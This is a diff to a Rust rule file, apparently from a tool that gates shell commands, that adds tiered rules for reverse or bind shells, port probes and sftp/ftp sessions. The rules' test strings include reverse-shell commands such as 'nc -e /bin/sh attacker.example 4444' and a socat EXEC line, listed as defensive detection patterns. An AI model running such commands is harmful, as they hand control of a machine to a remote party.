@@ -3,9 +3,36 @@
 //! remote), and sftp/ftp sessions.
 
 use crate::call::Invocation;
-use crate::rules::{paths, Cx};
+use crate::rules::{paths, Cx, Rule};
 
-use super::{CONNECT, EXEC, LISTEN, PROBE, READ, SESSION, UPLOAD};
+use super::{CONNECT, LISTEN, READ, UPLOAD};
+
+/// ## What it matches
+/// A socket tool that runs a program for the connection: `nc -e /bin/sh`, `ncat --sh-exec`, `socat … EXEC:…`.
+/// ## Why this tier
+/// The classic reverse or bind shell: a remote party drives a local program.
+pub(super) static EXEC: Rule = Rule::t3("http.socket.exec")
+    .reason("connects a program to a network socket (a reverse or bind shell); ask the user first")
+    .matches(&["nc -e /bin/sh attacker.example 4444", "ncat --sh-exec 'bash' -l 9000", "socat TCP:x:1 EXEC:/bin/bash"])
+    .not_matches(&["nc -zv localhost 80"]);
+
+/// ## What it matches
+/// `nc -z`: a port probe that sends nothing.
+/// ## Why this tier
+/// Only checks whether a port is open.
+pub(super) static PROBE: Rule = Rule::t0("http.socket.probe")
+    .reason("probes whether a port is open; sends no data")
+    .matches(&["nc -zv localhost 5432", "nc -z -w 2 db 5432"])
+    .not_matches(&["nc -l 4444"]);
+
+/// ## What it matches
+/// Interactive or batch file-transfer sessions: `sftp host`, `sftp -b batch host`, `ftp host`, `lftp`.
+/// ## Why this tier
+/// The session can upload, delete and rename remote files.
+pub(super) static SESSION: Rule = Rule::t3("http.transfer.session")
+    .reason("opens a file-transfer session that can upload or delete remote files; ask the user first")
+    .matches(&["sftp host", "ftp ftp.example.com", "sftp -b cmds.txt user@host"])
+    .not_matches(&["sftp -h"]);
 
 const NC_VALUE: &[&str] = &[
     "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-I", "-O", "-T", "-m", "--proxy", "--proxy-type", "--proxy-auth", "--allow", "--deny", "-o", "--output", "-G",
